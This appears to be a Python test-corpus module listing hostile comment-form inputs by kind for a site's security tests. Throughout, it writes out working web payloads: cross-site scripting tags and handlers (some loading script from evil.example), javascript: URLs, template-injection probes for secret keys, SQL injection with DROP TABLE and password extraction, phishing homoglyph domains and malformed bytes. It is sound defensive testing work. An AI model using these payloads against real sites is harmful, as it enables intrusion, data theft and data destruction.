"""Hostile input, by kind: what people may type (or send) into any text field of the site.

`CASES` is a list of `Case`s. Most are text (`Case.text`); a few are raw bytes sent as they are
in an `application/x-www-form-urlencoded` or `multipart/form-data` body (`Case.raw`), because a
browser would never send invalid UTF-8 or a lone surrogate, but an attacker's script will.
`field` says which comment-form field gets the input (almost always the body).

Every case either ends up stored and rendered inert, or is refused with a message: see
tests/security/test_corpus.py. Add a case here when you meet a new trick.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    kind: str
    text: str | None = None
    raw: bytes | None = None  # the field's value, sent as these bytes, not encoded
    encoding: str = "urlencoded"  # or "multipart"
    field: str = "body"

    @property
    def id(self):
        value = self.text if self.text is not None else repr(self.raw)
        short = value[:40].encode("unicode_escape").decode("ascii")
        return f"{self.kind}:{short}"


def _cases(kind, items, **kwargs):
    return [Case(kind, text=item, **kwargs) for item in items]


SCRIPT = _cases(
    "script",
    [
        "<script>alert(1)</script>",
        "<SCRIPT>alert(document.cookie)</SCRIPT>",
        "<script src=https://evil.example/x.js></script>",
        "<script/src=//evil.example/x.js>",
        "<script\n>alert(1)</script\n>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>script>alert(1)<</script>/script>",
        "</script><script>alert(1)</script>",
        '"><script>alert(1)</script>',
        "'><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "--><script>alert(1)</script><!--",
        "]]><script>alert(1)</script>",
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<iframe src=javascript:alert(1)></iframe>",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<applet code=x></applet>",
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<form action="https://evil.example/"><input name=password></form>',
        "<style>body{display:none}</style>",
        '<style>@import "https://evil.example/x.css";</style>',
        "<template><script>alert(1)</script></template>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)",
        "<textarea><script>alert(1)</script></textarea>",
        "<script>/*",
        "*/alert(1)</script>",
        '<script type="module">import("https://evil.example/x.js")</script>',
        "<script>eval(atob('YWxlcnQoMSk='))</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "`<script>alert(1)</script>`",
        "```\n<script>alert(1)</script>\n```",
        "    <script>alert(1)</script>",
        "> <script>alert(1)</script>",
        "- <script>alert(1)</script>",
        "**<script>alert(1)</script>**",
        "[<script>alert(1)</script>](https://example.org)",
        '<a href="https://example.org"><script>alert(1)</script></a>',
        "<isindex type=image src=1 onerror=alert(1)>",
        "<portal src=https://evil.example/></portal>",
        "<frameset onload=alert(1)>",
        "<html><head><script>alert(1)</script></head></html>",
        '<?xml version="1.0"?><script>alert(1)</script>',
    ],
)

_HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "ontoggle",
    "onanimationstart",
    "onbeforeprint",
    "onpointerenter",
    "onwheel",
    "oncopy",
    "onauxclick",
    "onbegin",
    "onstart",
]
EVENT_HANDLERS = _cases(
    "event-handler",
    [f"<img src=x {handler}=alert(1)>" for handler in _HANDLERS]
    + [
        "<img src=x ONERROR=alert(1)>",
        "<img src=x OnErRoR=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=x onerror\x0b=alert(1)>",
        "<img src=x onerror\x0c=alert(1)>",
        '<img src="x" onerror="alert(1)"//>',
        "<img src=`x` onerror=`alert(1)`>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        '<div style="background:url(javascript:alert(1))">x</div>',
        '<div style="width:expression(alert(1))">x</div>',
        '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
        '<a href="https://example.org" onclick="alert(1)">x</a>',
        '<a href="#" onmouseover=alert(1)>x</a>',
        "<x onclick=alert(1)>click</x>",
        "<custom-element onconnected=alert(1)></custom-element>",
        '[a](https://example.org "title" onmouseover="alert(1)")',
        '[a](https://example.org "t\\" onmouseover=\\"alert(1)")',
        "[a](https://example.org 't' onmouseover='alert(1)')",
        '[a](<https://example.org" onclick="alert(1)>)',
        "[a](https://example.org'onclick='alert(1))",
        '[a](https://example.org"onclick="alert(1))',
        '![x](x" onerror="alert(1))',
        '![x](https://example.org/x.png "a" onerror="alert(1)")',
        '<https://example.org/" onclick="alert(1)>',
        '[a][r]\n\n[r]: https://example.org "t" onclick="alert(1)"',
        "<a href=x onfocus=alert(1) autofocus tabindex=1>x</a>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=onmouseover to=alert(1)>",
        "<math href=javascript:alert(1)>x</math>",
        '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    ],
)

_BAD_SCHEMES = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "java\tscript:alert(1)",
    "java&#09;script:alert(1)",
    "java&Tab;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106;avascript:alert(1)",
    "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "%20javascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x00javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:alert(1)",
    "file:///etc/passwd",
    "jar:https://evil.example/x.jar!/",
    "feed:javascript:alert(1)",
    "view-source:https://example.org",
    "about:blank",
    "blob:https://example.org/uuid",
    "filesystem:https://example.org/temporary/x",
    "ms-its:mhtml:file://C:/x.mht!https://evil.example/x.chm::/x.html",
    "intent://evil#Intent;scheme=https;end",
    "tel:+15555550100",
    "sms:+15555550100",
    "ftp://evil.example/x",
]
URLS = (
    _cases("url", [f"[click]({url})" for url in _BAD_SCHEMES])
    + _cases("url", [f"<{url}>" for url in _BAD_SCHEMES if " " not in url and "<" not in url])
    + _cases("url", [f"[click][ref]\n\n[ref]: {url}" for url in _BAD_SCHEMES[:20]])
    + _cases("url", [f'<a href="{url}">x</a>' for url in _BAD_SCHEMES[:12]])
    + _cases(
        "url",
        [
            "[click](<javascript:alert(1)>)",
            "[click]( javascript:alert(1) )",
            "[click](javascript:alert%281%29)",
            "[click](javascript\\:alert(1))",
            "[click](jav\nascript:alert(1))",
            "[click](//evil.example/)",
            "[click](\\\\evil.example\\x)",
            "[click](/\\evil.example/)",
            "[click](https:evil.example)",
            "[click](https://evil.example@example.org/)",
            "[click](https://example.org/?q=<script>)",
            '[click](https://example.org/"><script>alert(1)</script>)',
            "[click](mailto:someone@example.org?subject=x%0d%0aBcc:all@example.org)",
            "[click](mailto:javascript:alert(1))",
            "[click](https://exa%00mple.org)",
            "[paypal.com](https://раураl.com/login)",
            "https://раураl.com/login",
            "www.evil.example",
            "<javascript:alert(1)@example.org>",
            "<mailto:x@example.org>",
            "[x](#comment-1)",
            "[x](/admin/)",
            "[x](?replyto=1#respond)",
        ],
    )
)

BROKEN_MARKUP = _cases(
    "broken-markup",
    [
        "</li></ol></details></li></ol>",
        "</div></article></li></ol></section></main>",
        '<li class="comment" id="comment-1"><article>forged</article></li>',
        '<div id="comment-99999">forged</div>',
        '<a id="respond" name="respond">x</a>',
        "<details open><summary>x",
        "<ol><li>unclosed",
        "<table><tr><td>unclosed",
        "<div><p></div></p>",
        "<b><i>crossed</b></i>",
        "<p><div>block in inline</div></p>",
        "<a href=https://example.org><a href=https://example.org>nested links</a></a>",
        "<!-- unclosed comment",
        "<!--> <script>alert(1)</script> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php system('id'); ?>",
        "<!DOCTYPE html><html><body>x",
        "<div",
        '<a href="https://example.org',
        "<a href='https://example.org>unterminated quote",
        "<<<<>>>>",
        "< script >alert(1)< / script >",
        "<>",
        "</>",
        "&amp;lt;script&amp;gt;",
        "&#0;",
        "&#xD800;",
        "&#1114112;",
        "&#x110000;",
        "&NotAnEntity;",
        "&lt",
        "&",
        "&#",
        "&#x;",
        "&amp",
        "<br/><br /><br>",
        "<p>" * 500,
        "</p>" * 500,
        "<div>" * 2000,
        "</div>" * 2000,
        "<b>" * 3000,
        "<ul><li>" * 500,
        '"' * 5000,
        "'" * 5000,
        ">" * 9000 + "x",
    ],
)

MARKDOWN = _cases(
    "markdown",
    [
        "[a][b]\n\n[b]: https://example.org\n[b]: javascript:alert(1)",
        "[b]: javascript:alert(1)\n[a][b]",
        "[a]\n\n[a]: <javascript:alert(1)>",
        "[a]\n\n[a]: https://example.org 'title\" onclick=\"alert(1)'",
        "[a][]\n\n[a]: https://example.org",
        "[[a](https://example.org)](javascript:alert(1))",
        "[a](https://example.org)(javascript:alert(1))",
        "[![x](https://example.org/x.png)](javascript:alert(1))",
        "![x](https://example.org/x.png)",
        "![x](javascript:alert(1))",
        "![x][i]\n\n[i]: data:image/svg+xml,<svg/onload=alert(1)>",
        "<https://example.org>",
        "<https://example.org/a b>",
        "<someone@example.org>",
        "https://example.org/<script>",
        "*a **b** c*",
        "***a***",
        "_*a*_",
        "**a*",
        "*a**",
        "__a__b__",
        "~~del~~",
        "*" * 5000,
        "_a" * 4000,
        "*a **" * 1600,
        "[" * 9000,
        "(" * 9000,
        "![" * 4000,
        "[a](" * 2000,
        "`" * 9000,
        "``a`" * 2000,
        "\\" * 9000,
        "# heading\n## heading\n====\n----",
        "---\n***\n___",
        "| a | b |\n|---|---|\n| <script> | x |",
        "[^1]\n\n[^1]: footnote <script>alert(1)</script>",
        "```javascript onload=alert(1)\nalert(1)\n```",
        '```"><script>alert(1)</script>\nx\n```',
        "~~~\nunclosed fence",
        "```\n" * 2500,
        "    indented code <script>",
        "1. a\n1. b\n99999999999. c",
        "0. zero",
        "-1. negative",
        "2147483648. big start",
        "1) paren",
        "- a\n  - b\n    - c\n      - d",
        "\n".join("  " * i + "- a" for i in range(300)),
        "\n".join("   " * i + "1. a" for i in range(300)),
        "a  \nhard break\\\nbackslash break",
        "\\<script>alert(1)\\</script>",
        "\\[a](javascript:alert(1))",
        "<div>\n*html block*\n</div>",
        "<pre><code>pre</code></pre>",
        "<details><summary>x</summary>hidden</details>",
        '<img src=x alt="x">\n\n![a](<x" onerror="alert(1)>)',
        "Setext\n===",
        "&copy; &nbsp; &#169; &#xA9; &zwnj;",
        "[a](https://example.org 'title')",
        '[a](https://example.org "' + "t" * 5000 + '")',
        "[" + "a" * 1000 + "](https://example.org/" + "b" * 5000 + ")",
        "[a](https://example.org/" + "%" * 3000 + ")",
        "\t\t\tx\n\t\t\ty",
        "> a\n>> b\n>>> c\n> d",
    ],
)

TEMPLATE = _cases(
    "template",
    [
        "{{ 7*7 }}",
        "{{7*7}}",
        "{{ request.user }}",
        "{{ user.password }}",
        "{{ settings.SECRET_KEY }}",
        "{{ csrf_token }}",
        "{% debug %}",
        "{% load static %}{% static 'x' %}",
        '{% include "base.html" %}',
        "{% csrf_token %}",
        "{# comment #}",
        "{{ '<script>alert(1)</script>'|safe }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "<% system('id') %>",
        "[[7*7]]",
        "@(7*7)",
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "${{7*7}}",
        "*{7*7}",
        "%(body)s %s %d",
        "{0} {id} {0.__class__.__init__.__globals__}",
        "{id}",
        "{{id}}",
        "{{ id }}",
        "$(alert(1))",
        "`alert(1)`",
        '<!--#exec cmd="id"-->',
    ],
)

SQL = _cases(
    "sql",
    [
        "' OR 1=1 --",
        "' OR '1'='1",
        '" OR ""="',
        "'; DROP TABLE comments_comment; --",
        "'); DROP TABLE auth_user; --",
        "1; SELECT pg_sleep(10)",
        "1' AND SLEEP(10)#",
        "' UNION SELECT username, password FROM auth_user --",
        "admin'--",
        "%' AND 1=1 AND '%'='",
        "1' ORDER BY 1--+",
        "'; EXEC xp_cmdshell('dir');--",
        "' || (SELECT sqlite_version()) || '",
        "\\'; --",
        "'' OR ''=''",
        "/**/UNION/**/SELECT/**/1",
        "CHAR(39)||CHAR(39)",
        "0x27",
        "'\"`;--",
        "$1; $2",
    ],
)

# Forged form fields: not the body but the hidden parent id and the identity choice.
FORGED = [
    Case("forged-field", text="1 OR 1=1", field="parent"),
    Case("forged-field", text="' OR 1=1 --", field="parent"),
    Case("forged-field", text="-1", field="parent"),
    Case("forged-field", text="99999999999999999999999", field="parent"),
    Case("forged-field", text="1e9", field="parent"),
    Case("forged-field", text="\x00", field="parent"),
    Case("forged-field", text="<script>", field="parent"),
    Case("forged-field", text="1' OR '1'='1", field="identity"),
    Case("forged-field", text="-1", field="identity"),
    Case("forged-field", text="99999999999999999999999", field="identity"),
    Case("forged-field", text="<script>alert(1)</script>", field="identity"),
    Case("forged-field", text="", field="identity"),
]

CONTROL = _cases(
    "control",
    [
        "a\x00b",
        "\x00",
        "\x00" * 100,
        "<scr\x00ipt>alert(1)</script>",
        "[x](java\x00script:alert(1))",
        "\x1b[31mred\x1b[0m",
        "\x08\x08\x08backspaces",
        "\x7f\x7f",
        "form\x0cfeed",
        "vertical\x0btab",
        "\r\n\r\n\r\nx\r",
        "\rcarriage",
        "next\x85line",
        "line\u2028separator\u2029paragraph",
        "\ufeffbom",
        "\uffff\ufffe",
        "\U0010ffff",
        "\ufdd0\ufdef",
        "\ue000private",
        "\x01\x02\x03\x04\x05\x06\x07",
    ],
)

UNICODE = _cases(
    "unicode",
    [
        "\u202egnp.exe",
        "harmless \u202etxet desrever",
        "\u202e" * 1000,
        "\u202d\u202a\u202b\u202c",
        "\u2066isolate\u2069 \u2067rtl\u2069 \u2068first\u2069",
        "\u2067" * 500,
        "\u200f\u200e marks",
        "\u061c arabic letter mark",
        "zero\u200bwidth\u200bspace",
        "\u200b" * 5000,
        "zw\u200cnj\u200djoiner",
        "\u2060word\u2061joiner\u2062\u2063\u2064",
        "soft\u00adhyphen" * 300,
        "\u180emongolian",
        "combining\u034fgrapheme\u034fjoiner",
        "Z" + "\u0336" * 500,
        "a" + "\u0301" * 5000,
        "Z̸̢̛̛̗̰͉̙̤̻̖̞̲̜̮̀̀͐̐̓͐̆̉̈́̍̎͒̆̑̽͘͝a̸̡̧̛̩̖̫̪͎͔̳̯̠̗̾̄̏̓̏̆̈́̿̕l̸" * 40,
        "".join(chr(c) for c in range(0x300, 0x370)) * 20,
        "\u20dd" * 300,
        "\u0e49" * 3000,
        "ꙮ" * 500,
        "\ufdfd" * 500,
        "ﷺ" * 500,
        "𒐫" * 500,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 500,
        "\ufe0f" * 1000,
        "\U000e0041\U000e0042\U000e007f",
        "\U0001d173\U0001d17a",
        "\u3164\u115f\u1160\uffa0",
        "\u2800" * 200,
        "ｔｈｅ ＜ｓｃｒｉｐｔ＞ ｆｕｌｌｗｉｄｔｈ",
        "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
        "\u2039script\u203a \u3008script\u3009 \u276escript\u276f",
        "𝐚𝐥𝐞𝐫𝐭(𝟏) 𝒜𝒹𝓂𝒾𝓃",
        "Аdmіn (Cyrillic А and і)",
        "раураl.com",
        "Ꭺpple ɡoogle ⅰnfo",
        "ـــــ" * 300,
        "مرحبا بالعالم שלום עולם",
        "नमस्ते दुनिया ที่นี่ 안녕하세요 こんにちは",
        "\U0001f600" * 2000,
        "\u0000\u0085\u2028",
    ],
)

LONG_WORD = "a" * 200
SIZE = _cases(
    "size",
    [
        LONG_WORD,
        "Look: " + LONG_WORD + " and more",
        "https://example.org/" + "a" * 400,
        "[" + "w" * 500 + "](https://example.org)",
        "`" + "c" * 3000 + "`",
        "x" * 9000,
        "word " * 1999,
        "\n" * 9000 + "x",
        "line\n" * 1999,
        "a" * 10_000,
    ],
) + [
    Case("size", text="a" * 10_001),
    Case("size", text="a" * 100_000),
    Case("size", text="x" * 1_000_000),
    Case("size", text="<script>" * 125_000),
]

NESTING = _cases(
    "nesting",
    [
        ">" * 5000 + " deep",
        "> " * 3000 + "deep",
        "\n".join(">" * i + " level" for i in range(1, 300)),
        "- " * 3000 + "deep",
        "1. " * 2000 + "deep",
        "> - " * 1500 + "deep",
        "*" * 2500 + "a" + "*" * 2500,
        "[" * 3000 + "a" + "](x)" * 1500,
        "<blockquote>" * 2000,
        "    " * 2000 + "deep code",
    ],
)

# Bytes a browser would never send: invalid UTF-8, overlong forms, encoded surrogates.
_RAW = [
    b"\xff",
    b"\xfe\xff",
    b"\xc3\x28",
    b"\xa0\xa1",
    b"\xe2\x28\xa1",
    b"\xe2\x82\x28",
    b"\xf0\x28\x8c\xbc",
    b"\xf0\x90\x28\xbc",
    b"\xf8\xa1\xa1\xa1\xa1",
    b"\xfc\xa1\xa1\xa1\xa1\xa1",
    b"\xed\xa0\x80",  # lone high surrogate U+D800, as UTF-8 would write it
    b"\xed\xbf\xbf",  # lone low surrogate U+DFFF
    b"\xed\xa0\xbd\xed\xb8\x80",  # a surrogate pair written as two 3-byte sequences (CESU-8)
    b"\xc0\xaf",  # overlong "/"
    b"\xe0\x80\xaf",
    b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe",  # overlong "<" and ">"
    b"ok then \xff\xfe broken",
    b"<script>\xffalert(1)</script>",
    b"[x](java\xc0script:alert(1))",
    b"%ff%fe",
    b"%ED%A0%80",
    b"%C0%BCscript%C0%BE",
    b"%00",
    b"%E2%80%AEgnp.exe",
    b"%",
    b"%%%",
    b"%zz",
    b"a=b&c=d",
]
RAW = [Case("raw-bytes", raw=value) for value in _RAW] + [
    Case("raw-bytes", raw=value, encoding="multipart")
    for value in (b"\xff\xfe", b"\xed\xa0\x80", b"\xc0\xbcscript\xc0\xbe", b"a\x00b")
]

CASES = (
    SCRIPT
    + EVENT_HANDLERS
    + URLS
    + BROKEN_MARKUP
    + MARKDOWN
    + TEMPLATE
    + SQL
    + FORGED
    + CONTROL
    + UNICODE
    + SIZE
    + NESTING
    + RAW
)

# Text for forms of short fields (identity names, report notes): every text case that fits.
TEXTS = [case.text for case in CASES if case.text is not None and case.field == "body"]
